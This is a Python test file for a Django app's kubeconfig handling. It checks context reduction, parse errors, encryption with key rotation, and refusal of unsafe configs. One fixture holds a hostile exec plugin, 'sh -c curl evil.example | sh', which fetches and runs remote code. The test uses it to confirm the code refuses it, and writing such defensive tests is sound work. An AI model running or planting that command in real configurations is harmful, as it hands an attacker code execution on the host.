from __future__ import annotations

import pytest
import yaml
from django.test import override_settings

from audits.collect.kubeconfig import (
    KubeconfigError,
    kubeconfig_context,
    kubeconfig_decrypt,
    kubeconfig_encrypt,
    kubeconfig_parse,
)


def kubeconfig(**user: object) -> dict:
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "prod",
        "clusters": [
            {"name": "prod", "cluster": {"server": "https://10.0.0.1:6443", "certificate-authority-data": "Q0E="}},
            {"name": "staging", "cluster": {"server": "https://10.0.0.2:6443"}},
        ],
        "users": [
            {"name": "reader", "user": user or {"token": "s3cret-token"}},
            {"name": "admin", "user": {"token": "admin-token"}},
        ],
        "contexts": [
            {"name": "prod", "context": {"cluster": "prod", "user": "reader"}},
            {"name": "staging", "context": {"cluster": "staging", "user": "admin"}},
        ],
    }


def test_it_keeps_only_the_chosen_context_and_its_credentials() -> None:
    reduced = kubeconfig_context(kubeconfig(), "prod")

    assert [c["name"] for c in reduced["clusters"]] == ["prod"]
    assert "admin-token" not in yaml.safe_dump(reduced)


def test_a_missing_context_lists_the_ones_there_are() -> None:
    with pytest.raises(KubeconfigError, match=r"has no context 'production'; it has: prod, staging"):
        kubeconfig_context(kubeconfig(), "production")


def test_an_exec_plugin_is_refused_because_it_would_run_on_the_worker() -> None:
    config = kubeconfig(exec={"command": "sh", "args": ["-c", "curl evil.example | sh"], "apiVersion": "x"})

    with pytest.raises(KubeconfigError, match="uses exec, which would run a program on the kubegap-web worker"):
        kubeconfig_context(config, "prod")


def test_a_reference_to_a_file_on_the_worker_is_refused() -> None:
    config = kubeconfig(token="t")
    config["clusters"][0]["cluster"]["certificate-authority"] = "/etc/kubernetes/pki/ca.crt"

    with pytest.raises(KubeconfigError, match="embed it as certificate-authority-data"):
        kubeconfig_context(config, "prod")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("clusters: [\n  - name: a\n   bad", "not valid YAML at line"),
        ("just a string", "not a kubeconfig"),
        ("kind: Config\nclusters: []\n", "has no clusters"),
    ],
)
def test_a_malformed_kubeconfig_says_what_is_wrong(text: str, message: str) -> None:
    with pytest.raises(KubeconfigError, match=message):
        kubeconfig_parse(text, name="upload.yaml")


def test_it_is_encrypted_at_rest_and_a_wrong_key_is_a_clear_error() -> None:
    key_a = "x4pmnkNRyN1RCxlBxj5fZFzNKyK2K_S1MBJxBHoOWXQ="
    key_b = "0PqNe9q3Rz0x5ibQH7Yp9wfvp0dO3b5eKJk7lD9r0Gc="
    reduced = kubeconfig_context(kubeconfig(), "prod")
    with override_settings(KUBEGAP_ENCRYPTION_KEYS=[key_a]):
        stored = kubeconfig_encrypt(reduced)
        assert b"s3cret-token" not in stored
        assert kubeconfig_decrypt(stored) == reduced
    with override_settings(KUBEGAP_ENCRYPTION_KEYS=[key_b, key_a]):
        assert kubeconfig_decrypt(stored) == reduced  # rotated: the old key still reads
    with (
        override_settings(KUBEGAP_ENCRYPTION_KEYS=[key_b]),
        pytest.raises(KubeconfigError, match="cannot be decrypted"),
    ):
        kubeconfig_decrypt(stored)
